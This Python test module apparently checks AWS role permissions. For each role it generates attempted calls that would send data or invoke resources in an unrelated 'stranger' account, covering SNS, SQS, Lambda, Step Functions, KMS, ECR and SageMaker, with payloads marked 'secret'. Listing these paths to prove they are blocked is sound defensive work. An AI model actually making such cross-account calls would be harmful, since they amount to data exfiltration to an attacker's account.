"""Resources of an account that has nothing to do with this one."""

from __future__ import annotations

from collections.abc import Iterator

from rehearsal.prove.forbidden.attempt import Attempt
from rehearsal.prove.forbidden.world import STRANGER, World

IMAGE = {"imageTag": "latest"}
TAG = {"Key": "secret", "Value": "told"}


def other_accounts(world: World) -> Iterator[Attempt]:
    """Messages, calls and data that would leave the account: what an attacker's own account would be for."""

    def far(service: str, rest: str) -> str:
        return world.arn(service, rest, STRANGER)

    queue = f"https://sqs.{world.region}.amazonaws.com/{STRANGER}/inbox"
    for role in world.roles:
        for service, operation, parameters in (
            ("sns", "Publish", {"TopicArn": far("sns", "inbox"), "Message": "secret"}),
            ("sqs", "SendMessage", {"QueueUrl": queue, "MessageBody": "secret"}),
            ("lambda", "Invoke", {"FunctionName": far("lambda", "function:collect"), "Payload": b"{}"}),
            ("stepfunctions", "StartExecution", {"stateMachineArn": far("states", "stateMachine:collect")}),
            ("kms", "GenerateDataKey", {"KeyId": far("kms", "key/1"), "KeySpec": "AES_256"}),
            (
                "ecr",
                "BatchGetImage",
                {"registryId": STRANGER, "repositoryName": "work", "imageIds": [IMAGE]},
            ),
            ("sagemaker", "UpdateModelPackage", {"ModelPackageArn": far("sagemaker", "model-package/w/1")}),
            (
                "sagemaker",
                "AddTags",
                {"ResourceArn": far("sagemaker", "model/w"), "Tags": [TAG]},
            ),
        ):
            yield Attempt("other account", role, service, operation, parameters)
